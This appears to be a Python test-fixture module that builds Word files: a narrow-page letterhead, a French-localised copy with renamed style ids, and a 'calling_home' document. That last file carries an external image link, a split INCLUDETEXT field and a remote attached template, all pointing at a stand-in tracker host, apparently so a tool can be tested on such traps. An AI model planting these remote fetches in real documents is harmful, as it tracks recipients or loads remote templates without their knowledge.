"""Word files as companies have them: a letterhead, one from a French Word, traps."""

from __future__ import annotations

import re
from io import BytesIO
from typing import TYPE_CHECKING, Any
from zipfile import ZIP_DEFLATED, ZipFile

from docx import Document
from docx.oxml.parser import parse_xml
from docx.shared import Cm, Pt, RGBColor

if TYPE_CHECKING:
    from collections.abc import Mapping

    from docx.document import Document as WordDocument

RED = RGBColor(0xB0, 0x1E, 0x28)


def letterhead() -> WordDocument:
    """A letterhead: a narrow page, its own header and footer, red headings in Georgia."""
    document: Any = Document()
    section = document.sections[0]
    section.page_width, section.page_height = Cm(18), Cm(24)
    section.left_margin, section.right_margin, section.top_margin = Cm(4), Cm(2), Cm(5)
    section.header.paragraphs[0].text = "ACME  |  Legal affairs"
    section.footer.paragraphs[0].text = "ACME plc, 1 Long Street, Leeds"
    heading = document.styles["Heading 1"]
    heading.font.name, heading.font.size, heading.font.color.rgb = "Georgia", Pt(20), RED
    document.add_heading("Dear reader", 1)
    document.add_paragraph("Text that has to go.")
    document.add_table(1, 1).cell(0, 0).text = "So has this."
    return document  # type: ignore[no-any-return] # python-docx is untyped to us here


def saved(document: WordDocument) -> bytes:
    made = BytesIO()
    document.save(made)
    return made.getvalue()


def changed(
    data: bytes, changes: Mapping[str, Any], more: Mapping[str, bytes | str] | None = None
) -> bytes:
    """A package with its parts changed, each by a function of its text, and with more parts."""
    made = BytesIO()
    with ZipFile(BytesIO(data)) as source, ZipFile(made, "w", ZIP_DEFLATED) as target:
        for name in source.namelist():
            part = source.read(name)
            if name in changes:
                part = changes[name](part.decode()).encode()
            target.writestr(name, part)
        for name, content in (more or {}).items():
            target.writestr(name, content)
    return made.getvalue()


def french(data: bytes) -> bytes:
    """The same file as a French Word writes it: ids in French, names in English."""
    ids = {f"Heading{n}": f"Titre{n}" for n in range(1, 10)}
    ids |= {"Title": "Titre", "Subtitle": "Sous-titre", "ListBullet": "Listepuces"}
    ids |= {"Quote": "Citation", "TableNormal": "TableauNormal", "Header": "En-tte"}

    def renamed(text: str) -> str:
        for old, new in ids.items():
            text = re.sub(rf'(w:styleId=|(?<!<w:name )w:val=)"{old}"', rf'\1"{new}"', text)
        return text.replace('w:val="en-US"', 'w:val="fr-FR"')

    return changed(data, dict.fromkeys(("word/styles.xml", "word/document.xml"), renamed))


def calling_home() -> bytes:
    """A letterhead that asks a server for its template, a picture and a text when it is opened."""
    document = letterhead()
    header: Any = document.sections[0].header
    run = header.paragraphs[0].add_run()
    key = header.part.relate_to(
        "https://tracker.example/logo.png",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
        is_external=True,
    )
    run._r.append(
        parse_xml(
            '<w:drawing xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
            'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r='
            '"http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            f'<a:blip r:link="{key}"/></w:drawing>'
        )
    )
    field = (
        '<w:p xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCL</w:instrText></w:r>'
        '<w:r><w:instrText>UDETEXT "https://tracker.example/x.docx"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>was here</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    header._element.append(parse_xml(field))
    address = header.part.relate_to(
        "https://acme.example/",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
        is_external=True,
    )
    assert address
    settings = document.settings.element
    server = document.part._settings_part.relate_to(
        "https://tracker.example/normal.dotm",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
        is_external=True,
    )
    settings.insert(
        0,
        parse_xml(
            '<w:attachedTemplate xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
            'main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
            f'r:id="{server}"/>'
        ),
    )
    return saved(document)
